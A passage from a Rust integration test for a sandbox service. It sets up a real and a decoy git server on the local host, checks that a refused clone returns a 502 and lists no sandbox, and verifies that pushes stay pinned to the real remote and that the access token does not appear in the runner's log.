        &real_port.to_string(),
        "--host-tcp-port",
        &evil_port.to_string(),
    ])?
    else {
        return Ok(());
    };
    image("build-base")?;
    let api = d.stack.api(Duration::from_secs(30))?;
    let key = d.stack.admin("carol")?;
    let github = FakeGitHub::start()?;
    api.state.lifecycle.set_github_api(&github.base);
    api.state.lifecycle.set_allow_http_repos(true);
    let call = |method: &str, path: &str, body: Option<Value>| {
        d.stack.call(&api, method, path, Some(&key), body)
    };
    // The servers listen where containers reach the host.
    let host_ip = docker_host_ip()?;
    let real_tmp = TempDir::new()?;
    let real_repo = bare_remote(&real_tmp)?;
    let real = GitHttp::start(real_tmp.path().to_owned(), &format!("0.0.0.0:{real_port}"))?;
    let real_url = format!("http://{host_ip}:{real_port}/acme/widgets.git");
    let evil_tmp = TempDir::new()?;
    let evil_repo = bare_remote(&evil_tmp)?;
    let evil = GitHttp::start(evil_tmp.path().to_owned(), &format!("0.0.0.0:{evil_port}"))?;
    let evil_url = format!("http://{host_ip}:{evil_port}/acme/widgets.git");

    // A clone the server refuses (no token): a 502, and nothing in the list.
    let made = call(
        "POST",
        "/v1/sandboxes",
        Some(json!({"repo": real_url, "image": DOCKER_IMAGE})),
    )?;
    check_error(&made, 502, "runner_error")?;
    let list = call("GET", "/v1/sandboxes", None)?;
    ensure!(
        list.json()["sandboxes"]
            .as_array()
            .is_some_and(Vec::is_empty),
        "a failed create is listed: {list:?}"
    );

    the_push_stays_pinned(
        &call,
        d.stack.ssh_port,
        Some(DOCKER_IMAGE),
        (&real_url, &real_repo, &real),
        (&evil_url, &evil_repo, &evil),
        &github,
    )?;
    ensure!(
        !d.runner_log().contains(TOKEN),
        "the token is in the runner's log"
    );
    Ok(())
}
